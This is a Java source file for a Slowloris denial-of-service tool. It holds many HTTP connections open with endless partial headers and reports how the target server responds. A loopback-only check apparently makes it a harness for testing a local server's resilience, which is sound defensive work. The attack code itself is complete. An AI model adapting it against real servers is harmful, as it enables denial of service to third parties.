import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * Slowloris against a server on loopback: COUNT connections, each sending a request line and then
 * one header byte every second, never finishing its headers. A connection the server closes is
 * opened again, so COUNT stay open for SECONDS. Prints what the server did with them.
 *
 * <p>Usage: {@code java SlowLoris.java HOST PORT COUNT SECONDS} (HOST must be a loopback address).
 */
public class SlowLoris {
    public static void main(String[] args) throws Exception {
        String host = args[0];
        int port = Integer.parseInt(args[1]);
        int count = Integer.parseInt(args[2]);
        long end = System.nanoTime() + Long.parseLong(args[3]) * 1_000_000_000L;
        if (!java.net.InetAddress.getByName(host).isLoopbackAddress()) {
            throw new IllegalArgumentException("loopback only: " + host);
        }
        Socket[] sockets = new Socket[count];
        long opened = 0, closedByServer = 0, refused = 0;
        while (System.nanoTime() < end) {
            for (int i = 0; i < count; i++) {
                if (sockets[i] == null) {
                    Socket s = new Socket();
                    try {
                        s.connect(new InetSocketAddress(host, port), 2_000);
                        s.setTcpNoDelay(true);
                        s.getOutputStream().write(("GET /hello/slow HTTP/1.1\r\nHost: " + host + "\r\nX-Slow: ")
                                .getBytes(StandardCharsets.ISO_8859_1));
                        sockets[i] = s;
                        opened++;
                    } catch (IOException e) {
                        refused++;
                        s.close();
                    }
                    continue;
                }
                try {
                    OutputStream out = sockets[i].getOutputStream();
                    out.write('a');
                    out.flush();
                } catch (IOException e) {
                    closedByServer++;
                    sockets[i].close();
                    sockets[i] = null;
                }
            }
            Thread.sleep(1_000);
        }
        for (Socket s : sockets) {
            if (s != null) {
                s.close();
            }
        }
        System.out.println("slowloris: " + count + " slow connections kept open; opened " + opened
                + ", closed by the server " + closedByServer + ", failed to connect " + refused);
    }
}
